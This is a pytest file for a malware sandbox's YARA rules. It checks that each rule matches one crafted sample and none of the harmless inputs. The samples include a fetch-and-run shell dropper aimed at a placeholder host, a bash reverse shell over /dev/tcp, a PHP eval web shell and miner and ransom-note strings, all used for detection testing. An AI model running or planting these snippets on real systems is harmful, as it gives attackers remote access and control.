"""The rules that come with the server: each matches what it is for, and none of the harmless."""

from __future__ import annotations

import base64
import sys
from pathlib import Path

import pytest
import yara_x

from cuckoo_api.reporting.bounds import Notes
from cuckoo_api.reporting.yara.rules import load_rules
from cuckoo_api.settings import default_conf

pytestmark = pytest.mark.slow

ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00"

CASES = {
    "upx_packed": b"MZ" + b"\0" * 400 + b"UPX0\0\0UPX1\0\0UPX!",
    "shell_dropper": b"#!/bin/sh\nwget -q http://e.test/p -O /tmp/p\nchmod +x /tmp/p\n/tmp/p\n",
    "reverse_shell_script": b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "encoded_program": b"x = '" + base64.b64encode(b"MZ\x90\0\3\0\0\0" + bytes(300)) + b"'",
    "coin_miner": b"pool stratum+tcp://p.test --donate-level 1",
    "web_shell": b"<?php @eval(base64_decode($_POST['x'])); ?>",
    "ransom_note_text": "All of your files have been encrypted! Pay 2 BTC".encode("utf-16-le"),
    "preload_rootkit": ELF + b"/etc/ld.so.preload\0dlsym\0readdir64\0",
    "iot_bot": ELF + b"/dev/misc/watchdog\0/bin/busybox MIRAI\0TSource Engine Query\0",
}
HARMLESS = (
    b"",
    b"#!/bin/sh\necho wget http://e.test/ is a tool\n",
    b"Our files are encrypted at rest, pay by bitcoin",
    b"<?php echo $_GET['x']; ?>",
    b"python3 -c 'import pty'",
    Path("/bin/true").read_bytes(),
    Path(sys.executable).read_bytes(),
    Path(base64.__file__).read_bytes(),
)


@pytest.fixture(scope="module")
def scanner(tmp_path_factory: pytest.TempPathFactory) -> yara_x.Scanner:
    folder = tmp_path_factory.mktemp("yara")
    (folder / "starter.yar").write_text(default_conf("yara/starter.yar"))
    notes = Notes()
    rules = load_rules(folder, notes)
    assert notes.lines == []
    assert rules is not None
    assert {rule.identifier for rule in rules} == CASES.keys()
    return yara_x.Scanner(rules)


def names(scanner: yara_x.Scanner, content: bytes) -> list[str]:
    return [rule.identifier for rule in scanner.scan(content).matching_rules]


@pytest.mark.parametrize("rule", CASES)
def test_a_rule_matches_what_it_is_for(scanner: yara_x.Scanner, rule: str) -> None:
    assert names(scanner, CASES[rule]) == [rule]


def test_no_rule_matches_what_is_harmless(scanner: yara_x.Scanner) -> None:
    for content in HARMLESS:
        assert names(scanner, content) == []
